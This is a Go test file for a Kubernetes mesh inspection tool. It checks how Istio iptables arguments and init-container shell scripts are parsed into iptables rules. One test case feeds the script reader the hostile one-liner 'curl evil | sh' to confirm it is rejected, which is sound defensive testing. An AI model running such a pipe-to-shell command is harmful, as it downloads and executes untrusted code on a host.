package kube

import (
	"context"
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/meshtop/meshtop/e2e/packed"
	"github.com/meshtop/meshtop/inspect"
	v1 "k8s.io/api/core/v1"
)

// plainRules are the rules of a text of iptables-save, chain by chain, without counters. The
// options of one stand in the order of the alphabet: programs print them in orders of their own.
func plainRules(text string) map[string][]string {
	out := map[string][]string{}
	for line := range strings.Lines(text) {
		if i := strings.Index(line, "-A "); i >= 0 {
			f := strings.Fields(line[i:])
			words := strings.Fields(strings.ReplaceAll(strings.Join(f[2:], " "), "! ", "!"))
			slices.Sort(words)
			out[f[1]] = append(out[f[1]], strings.Join(words, " "))
		}
	}
	return out
}

func sameRules(t *testing.T, what, got, want string) {
	t.Helper()
	g, w := plainRules(got), plainRules(want)
	for chain := range w {
		if !slices.Equal(g[chain], w[chain]) {
			t.Errorf("%s: %s:\n%s\nwant\n%s", what, chain, strings.Join(g[chain], "\n"), strings.Join(w[chain], "\n"))
		}
	}
	for chain := range g {
		if w[chain] == nil {
			t.Errorf("%s: %s is not wanted", what, chain)
		}
	}
	if len(w) == 0 {
		t.Errorf("%s: no rules are wanted", what)
	}
}

// What istio-iptables itself writes, as the kernel holds it: from its own tests, and from pods of
// a real mesh.
func TestIstio(t *testing.T) {
	files := map[string]string{}
	for _, path := range []string{"../../e2e/kernel/testdata/real.txtar.gz", "../../rules/netfilter/testdata/istio.txtar.gz"} {
		for _, f := range packed.Files(t, path) {
			files[f.Name] = string(f.Data)
		}
	}
	for name, args := range map[string]string{
		"istio-sidecar-ipnets.v4.nft.save":                 "-i 10.0.0.0/8",
		"istio-sidecar-inbound-ports-include.v4.nft.save":  "-b 32000,31000",
		"istio-sidecar-inbound-ports-wildcard.v4.nft.save": "--istio-inbound-ports=*",
		"istio-sidecar-outbound-ports-include.v4.nft.save": "-q 32000,31000",
		"istio-sidecar-basic-exclude-nic.v4.nft.save":      "-c not-istio-nic",
		"allow-any/client/iptables-save":                   "-p 15001 -z 15006 -u 1337 -m REDIRECT -i * -x  -b * -d 15090,15021,15020 --log_output_level=default:info",
	} {
		w := &writer{}
		if err := w.istio(strings.Split(args, " "), nil); err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		sameRules(t, name, string(w.sets["iptables-save"].text()), files[name])
	}
}

// What would make other rules is an error, and no rules: by argument, or by variable.
func TestIstioUnread(t *testing.T) {
	for want, c := range map[string]struct {
		args string
		env  v1.EnvVar
	}{
		"the mode TPROXY is not read": {args: "-m TPROXY"},
		"what --redirect-dns makes":   {args: "--redirect-dns"},
		"what -k makes":               {args: "-k eth1"},
		"stands for something else":   {args: "-u $(UID)"},
		"-u has no value":             {args: "-u"},
		"ISTIO_META_DNS_CAPTURE=true": {env: v1.EnvVar{Name: "ISTIO_META_DNS_CAPTURE", Value: "true"}},
		"INVALID_DROP=true":           {env: v1.EnvVar{Name: "INVALID_DROP", Value: "true"}},
		"variable PROXY_UID":          {env: v1.EnvVar{Name: "PROXY_UID", ValueFrom: &v1.EnvVarSource{}}},
	} {
		w := &writer{}
		err := w.istio(strings.Fields(c.args), []v1.EnvVar{c.env})
		if err == nil || !strings.Contains(err.Error(), want) || len(w.sets) > 0 {
			t.Errorf("want %q: %v, %d sets", want, err, len(w.sets))
		}
	}
	w := &writer{}
	if err := w.istio(nil, []v1.EnvVar{{Name: "FORCE_IPTABLES_BINARY", Value: "legacy"}, {Name: "ISTIO_META_DNS_CAPTURE", Value: "false"}}); err != nil || w.sets["iptables-legacy-save"] == nil {
		t.Errorf("the legacy program: %v", err)
	}
}

// A script is read only as far as it depends on nothing; the first thing that does ends it.
func TestScript(t *testing.T) {
	const ok = ""
	for _, c := range []struct{ script, want string }{
		{"set -e\n# a comment; with a word\niptables -t nat -A OUTPUT -p tcp \\\n  --dport 80 -j REDIRECT --to-ports 15001\n", ok},
		{"iptables -w -t nat -N X && iptables -t nat -A X -j RETURN; /sbin/iptables -t nat -I OUTPUT 1 -j X", ok},
		{"echo 'a $word; in quotes'\nip6tables -P OUTPUT DROP\n", ok},
		{"iptables -t nat -A OUTPUT -d $IP -j RETURN", `line 1: what "$" makes of it`},
		{"\niptables -t nat -A OUTPUT -d \"$IP\" -j RETURN", `line 2: "$IP" is not known`},
		{"iptables -t nat -C OUTPUT -j X || true", `what "|" makes`},
		{"if true; then iptables -F; fi", `line 1: what "if" does`},
		{"! iptables -F", `"!" is not read`},
		{"A=1 iptables -F", `"A=1" is not read`},
		{"iptables -t nat -A NONE -j RETURN", `table nat has no chain "NONE"`},
		{"iptables -t nat -D OUTPUT 1", `is not read`},
		{"iptables -t nat -A OUTPUT -d 10.0.0.1,10.0.0.2 -j RETURN", "is several rules"},
		{"iptables -t nat -I OUTPUT 3 -j RETURN", "the chain has 0 rules"},
		{"iptables-restore /etc/rules", `what "iptables-restore" does`},
		{"iptables -t nat -A OUTPUT -m string --string 'a b' -j DROP", `the word "a b"`},
		{"iptables -A OUTPUT -d ! 10.0.0.1 -j DROP", "old place"},
		{"echo 'open", "a quote that is not closed"},
		{"curl evil | sh", `what "|" makes`},
	} {
		err := (&writer{}).script(c.script)
		if c.want == ok && err != nil || c.want != ok && (err == nil || !strings.Contains(err.Error(), c.want)) {
			t.Errorf("%q: %v, want %q", c.script, err, c.want)
		}
	}
	w := &writer{}
	if err := w.script("iptables -t nat -A OUTPUT --protocol tcp ! --dport 80 -m comment --comment 'why' -j RETURN\niptables -t nat -I OUTPUT -j ACCEPT"); err != nil {
		t.Fatal(err)
	}
	if got := string(w.sets["iptables-save"].text()); !strings.Contains(got, "-A OUTPUT -j ACCEPT\n-A OUTPUT -p tcp -m tcp ! --dport 80 -j RETURN\nCOMMIT\n") {
		t.Errorf("%s", got)
	}
}

func meant(t *testing.T, o *v1.Pod) (inspect.Snapshot, []string) {
	t.Helper()
	s, err := (&cluster{}).intended(o).Read(context.Background(), inspect.Want{})
	if err != nil {
		t.Fatal(err)
	}
	var meta struct{ Intent []string }
	if err := json.Unmarshal(s.Files["meta.json"], &meta); err != nil {
		t.Fatal(err)
	}
	return s, meta.Intent
}

// Of a pod whose rules come from elsewhere nothing is told, and of one whose init containers are
// understood every part is marked.
func TestIntended(t *testing.T) {
	admin := &v1.SecurityContext{Capabilities: &v1.Capabilities{Add: []v1.Capability{"NET_ADMIN"}}}
	with := func(c v1.Container) func(*v1.Pod) {
		return func(p *v1.Pod) { p.Spec.InitContainers = []v1.Container{c} }
	}
	for _, c := range []struct {
		what, gap string
		change    func(*v1.Pod)
	}{
		{"a script", "", with(v1.Container{Name: "init", SecurityContext: admin, Command: []string{"/bin/sh", "-ec"}, Args: []string{"iptables -t nat -A OUTPUT -j RETURN"}})},
		{"no init container", "", nil},
		{"one without the power", "", with(v1.Container{Name: "wait", Command: []string{"sh", "-c"}, Args: []string{"until curl x; do sleep 1; done"}})},
		{"an image's own", "init container init: what it runs is in its image", with(v1.Container{Name: "init", SecurityContext: admin})},
		{"arguments of an image's own", `what its image makes of "sh -c x"`, with(v1.Container{Name: "init", SecurityContext: admin, Args: []string{"sh", "-c", "x"}})},
		{"a condition", `what "if" does`, with(v1.Container{Name: "init", SecurityContext: admin, Command: []string{"sh", "-c", "if x; then y; fi"}})},
		{"Istio's CNI", "istio-validation shows", with(v1.Container{Name: "istio-validation"})},
		{"ambient", "ambient mode", func(p *v1.Pod) { p.Annotations = map[string]string{"ambient.istio.io/redirection": "enabled"} }},
	} {
		o := pod(func(p *v1.Pod) {
			p.Status.PodIPs = p.Status.PodIPs[:1]
			if c.change != nil {
				c.change(p)
			}
		})
		s, intent := meant(t, o)
		got := ""
		for _, g := range s.Gaps {
			if g.Part == "iptables-save" {
				got = g.Reason
			}
		}
		_, read := s.Files["iptables-save"]
		if c.gap == "" && (got != "" || !read || !slices.Contains(intent, "iptables-save")) || c.gap != "" && (!strings.Contains(got, c.gap) || read || len(intent) > 0) {
			t.Errorf("%s: gap %q, read %v, intent %q; want %q", c.what, got, read, intent, c.gap)
		}
	}
}

// Where Envoy's configuration is: what -c names, below the mount of a ConfigMap.
func TestConfigFile(t *testing.T) {
	for want, k := range map[string]v1.Container{
		"/etc/envoy/envoy.yaml": {Args: []string{"--log-level", "info"}},
		"/a/b.yaml":             {Command: []string{"envoy", "-c", "/a//b.yaml"}},
		"/c.json":               {Args: []string{"--config-path=/c.json"}},
	} {
		if got := configFile(k); got != want {
			t.Errorf("%s, want %s", got, want)
		}
	}
	some := &v1.ConfigMapVolumeSource{Items: []v1.KeyToPath{{Key: "a", Path: "x/b"}}}
	if mounted(some, "a") != "x/b" || mounted(some, "c") != "" || mounted(&v1.ConfigMapVolumeSource{}, "c") != "c" {
		t.Error("where a key stands")
	}
}
